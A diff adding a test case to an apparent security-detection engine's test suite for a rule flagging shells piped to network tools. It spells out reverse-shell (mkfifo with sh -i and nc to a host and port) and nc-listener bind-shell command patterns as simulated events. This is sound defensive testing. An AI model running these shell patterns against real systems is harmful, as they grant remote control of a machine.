@@ -1,7 +1,7 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import type { EventV1, ProcessV1 } from '@vigil/schema';
-import { builtinEngine, connect, execWithStdio, exeReference, fileFd, loud, pipeFd, ttyFd } from '../testing.js';
+import { builtinEngine, conn, connect, execWithStdio, exeReference, fileFd, loud, pipeFd, ttyFd } from '../testing.js';
 
 const run = (...events: EventV1[]) => {
   const { engine, alerts } = builtinEngine();
@@ -73,6 +73,47 @@ test('shell.pipe-from-network: raw tools and unknown programs — loopback high,
   const [r] = run(exeReference('/usr/bin/socat', sha), renamed.w(), renamed.s()).filter((a) => a.ruleId === RULE);
   assert.equal(r?.severity, 'critical', 'argv names a host off this one, no connect seen yet');
   assert.match(r!.reason, /raw socket tool \(socat\)/);
+});
+
+test('shell.pipe-from-network: the mkfifo loop (cat f | sh -i | nc host port > f), and nc -l feeding bash', () => {
+  const cat = execWithStdio(['cat', '/tmp/f'], [ttyFd(0), pipeFd(1, 540), ttyFd(2)], { pid: 7201 });
+  const sh = execWithStdio(['sh', '-i'], [pipeFd(0, 540), pipeFd(1, 541), pipeFd(2, 541)], { pid: 7202 });
+  const nc = execWithStdio(['nc', '10.0.0.1', '4242'], [pipeFd(0, 541), { fd: 1, type: 'fifo', ino: 9 }], {
+    pid: 7203,
+  });
+  const ncProc = { pid: 7203, comm: 'nc', exe: '/usr/bin/nc', argv: nc.exec.argv };
+  const loop = run(cat, sh, nc, connect('10.0.0.1', 4242, ncProc)).filter((a) => a.ruleId === RULE);
+  assert.deepEqual(
+    loop.map((a) => a.severity),
+    ['critical'],
+  );
+  assert.match(
+    loop[0]!.reason,
+    /^sh \/usr\/bin\/sh \(pid 7202\) writes its stdout \(fd 1\) into pipe 541, read by a raw socket tool \(nc\) nc \(pid 7203\) on its fd 0, while its stdin is pipe 540/,
+  );
+  const listener = { pid: 7301, comm: 'nc', exe: '/usr/bin/nc', argv: ['nc', '-lp', '8000'] };
+  const bind = run(
+    execWithStdio(listener.argv, [ttyFd(0), pipeFd(1, 550)], listener),
+    execWithStdio(['bash'], [pipeFd(0, 550)], { pid: 7302 }),
+    conn('listen', null, '0.0.0.0:8000', '0.0.0.0:0', listener),
+    conn('established', 'in', '10.0.0.2:8000', '198.51.100.4:50000', listener),
+  ).filter((a) => a.ruleId === RULE);
+  assert.deepEqual(
+    bind.map((a) => a.severity),
+    ['high', 'critical'],
+  );
+  assert.match(bind[1]!.reason, /which accepted a connection from 198\.51\.100\.4:50000: `nc -lp 8000`$/);
+  // A script's output sent with nc, its stdin a terminal; a report uploaded with curl.
+  const report = run(
+    execWithStdio(['sh', 'report.sh'], [ttyFd(0), pipeFd(1, 560)], { pid: 7401 }),
+    execWithStdio(['nc', '10.0.0.9', '9000'], [pipeFd(0, 560), ttyFd(1)], { pid: 7402 }),
+    execWithStdio(['sh', '-c', 'x'], [pipeFd(0, 561), pipeFd(1, 562)], { pid: 7403 }),
+    execWithStdio(['curl', '-T', '-', 'https://x.example/upload'], [pipeFd(0, 562), ttyFd(1)], { pid: 7404 }),
+  );
+  assert.deepEqual(
+    report.filter((a) => a.ruleId === RULE),
+    [],
+  );
 });
 
 test('shell.pipe-from-network: wget -qO- from a raw IP into bash is high; curl | sh from a named HTTPS host is medium', () => {
